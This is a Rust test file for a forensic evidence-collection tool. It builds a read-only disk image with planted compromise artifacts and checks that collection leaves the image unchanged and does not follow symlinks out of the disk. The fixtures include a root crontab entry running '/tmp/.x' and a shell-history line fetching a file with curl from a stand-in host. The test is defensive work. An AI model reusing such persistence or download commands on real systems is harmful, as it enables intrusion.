//! A dead disk: an image mounted read-only, collected from by the command and with a kit, under the disk's own name.

#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::{
    ffi::OsString,
    fs,
    os::unix::fs::symlink,
    path::{Path, PathBuf},
    process::Command,
};

use evidence::digest::Digest;
use fieldseal_tests::{
    args,
    programs::{self, Outcome, Programs},
    stage::Stage,
};
use serde_json::Value;

const SECRET: &str = "of the machine that examines";

fn quiet(_: &str) {}

/// A disk with a system on it, mounted read-only where this user may mount, and a plain folder elsewhere.
struct Disk {
    image: Option<PathBuf>,
    root: PathBuf,
}

impl Disk {
    fn new(dir: &Path) -> Self {
        let tree = dir.join("tree");
        let put = |path: &str, text: &str| {
            let path = tree.join(path);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        };
        put("usr/lib/os-release", "PRETTY_NAME=\"Old System 9\"\n");
        put("etc/hostname", "dead-1\n");
        put("etc/machine-id", "0123456789abcdef0123456789abcdef\n");
        put("etc/passwd", "ann:x:1000:1000::/home/ann:/bin/sh\n");
        put("etc/crontab", "* * * * * root /tmp/.x\n");
        put("home/ann/.bash_history", "curl http://192.0.2.1/x\n");
        put("var/log/auth.log", "Accepted password for ann\n");
        fs::write(dir.join("outside"), SECRET).unwrap();
        symlink("/usr/lib/os-release", tree.join("etc/os-release")).unwrap();
        symlink(dir.join("outside"), tree.join("var/log/syslog")).unwrap();
        symlink(dir.join("outside"), tree.join("etc/hosts")).unwrap();
        Self::mounted(dir, &tree).unwrap_or(Self {
            image: None,
            root: tree,
        })
    }

    fn mounted(dir: &Path, tree: &Path) -> Option<Self> {
        let (image, root) = (dir.join("disk.img"), dir.join("mnt"));
        fs::File::create(&image).unwrap().set_len(16 << 20).unwrap();
        let mut made = Command::new("/sbin/mke2fs");
        made.args(["-q", "-t", "ext4", "-d"]).arg(tree).arg(&image);
        assert!(made.status().unwrap().success());
        fs::create_dir(&root).unwrap();
        let mut mount = Command::new("mount");
        mount.args(["-o", "loop,ro,noload"]).arg(&image).arg(&root);
        let is_mounted = rustix::process::geteuid().is_root() && mount.status().unwrap().success();
        is_mounted.then_some(Self {
            image: Some(image),
            root,
        })
    }

    fn digest(&self) -> Option<Digest> {
        let image = self.image.as_ref()?;
        Some(Digest::of(&fs::read(image).unwrap()))
    }
}

impl Drop for Disk {
    fn drop(&mut self) {
        if self.image.is_some() {
            let _ = Command::new("umount").arg(&self.root).status();
        }
    }
}

fn agent(programs: &Programs, arguments: &[OsString]) -> Outcome {
    let mut command = Command::new(programs.path("fieldseal-agent"));
    programs::run(command.args(arguments), &quiet).unwrap()
}

fn json(text: &str) -> Value {
    let last = text.lines().last().unwrap_or_default();
    serde_json::from_str(last).unwrap_or_else(|e| panic!("{e}: {text}"))
}

#[test]
fn an_image_is_collected_from_with_the_same_profile_and_nothing_is_changed_on_it() {
    let dir = tempfile::tempdir().unwrap();
    let disk = Disk::new(dir.path());
    let before = disk.digest();
    let programs = Programs::build().unwrap();
    let output = dir.path().join("out");
    let common = args![
        "collect",
        "--root",
        disk.root,
        "--profile",
        "triage",
        "--unencrypted"
    ];
    let with = |more: &[OsString]| [&common[..], more].concat();

    let refused = agent(&programs, &with(&args!["--output", disk.root.join("var")]));
    assert_eq!(refused.code, 64, "{refused:?}");
    assert!(
        refused.err.contains("nothing is written there"),
        "{refused:?}"
    );

    let done = agent(&programs, &with(&args!["--output", output, "--json"]));
    assert_eq!(done.code, 2, "{done:?}");
    let folder = PathBuf::from(
        serde_json::from_str::<Value>(&done.out).unwrap()["folder"]
            .as_str()
            .unwrap(),
    );
    let opened = dir.path().join("opened");
    let mut open = Command::new(programs.path("fieldseal"));
    open.arg("open").arg(&folder).arg("--extract").arg(&opened);
    let open = programs::run(&mut open, &quiet).unwrap();
    assert_eq!(open.code, 0, "{open:?}");
    let mut verify = Command::new(programs.path("fieldseal"));
    verify.arg("verify").arg(&folder);
    let verified = programs::run(&mut verify, &quiet).unwrap();
    assert_eq!(verified.code, 2, "only the signer is unknown: {verified:?}");
    for said in [
        "dead-1",
        "Old System 9",
        "0123456789abcdef",
        "Read from a dead disk",
    ] {
        assert!(verified.out.contains(said), "{said}: {verified:?}");
    }

    let text = every_text_below(&opened);
    assert!(
        text.contains("curl http://192.0.2.1/x"),
        "the history is there"
    );
    assert!(
        text.contains("Accepted password for ann"),
        "the log is there"
    );
    assert!(!text.contains(SECRET), "a link has led out of the disk");
    assert!(text.contains("\"not_applicable\""));
    assert_eq!(disk.digest(), before);
}

fn every_text_below(folder: &Path) -> String {
    let entries = walkdir::WalkDir::new(folder)
        .into_iter()
        .map(Result::unwrap);
    let files = entries.filter(|entry| entry.file_type().is_file());
    files
        .map(|file| String::from_utf8_lossy(&fs::read(file.path()).unwrap()).into_owned())
        .collect()
}

#[test]
fn a_kit_collects_from_a_disk_under_the_name_that_the_disk_has() {
    let dir = tempfile::tempdir().unwrap();
    let disk = Disk::new(dir.path());
    let people: [(&str, &str, &[&str]); 1] = [("ann", "Ann Example", &["investigator", "admin"])];
    let stage = Stage::deployed(&dir.path().join("stage"), quiet, &people, &[], "disk").unwrap();
    let stick = dir.path().join("stick");
    let built = stage
        .fieldseal(&args![
            "kit",
            "build",
            "--case",
            "K-2",
            "--reason",
            "a disk on the table",
            "--profile",
            "triage",
            "--host",
            "dead-1",
            "--output",
            stick
        ])
        .unwrap();
    assert_eq!(built.code, 0, "{built:?}");
    let run = |more: &[OsString]| {
        let mut command = Command::new("sh");
        command.arg(stick.join("run.sh"));
        command.args([
            "--operator",
            "Olga",
            "--location",
            "Lab",
            "--foreground",
            "--json",
        ]);
        programs::run(command.args(more), &quiet).unwrap()
    };
    let elsewhere = run(&[]);
    assert_eq!(elsewhere.code, 1, "this host is another: {elsewhere:?}");
    let done = run(&args!["--root", disk.root]);
    assert_eq!(done.code, 2, "{done:?}");
    assert!(json(&done.out)["fingerprint"].is_string());

    let import = args!["import", stick, "--dir", stage.path("server"), "--json"];
    let imported = stage.run("fieldseal-server", &import).unwrap();
    assert_eq!(imported.code, 0, "{imported:?}");
    let listed = stage.fieldseal(&args!["list"]).unwrap();
    assert!(listed.out.contains("dead-1"), "{listed:?}");
}
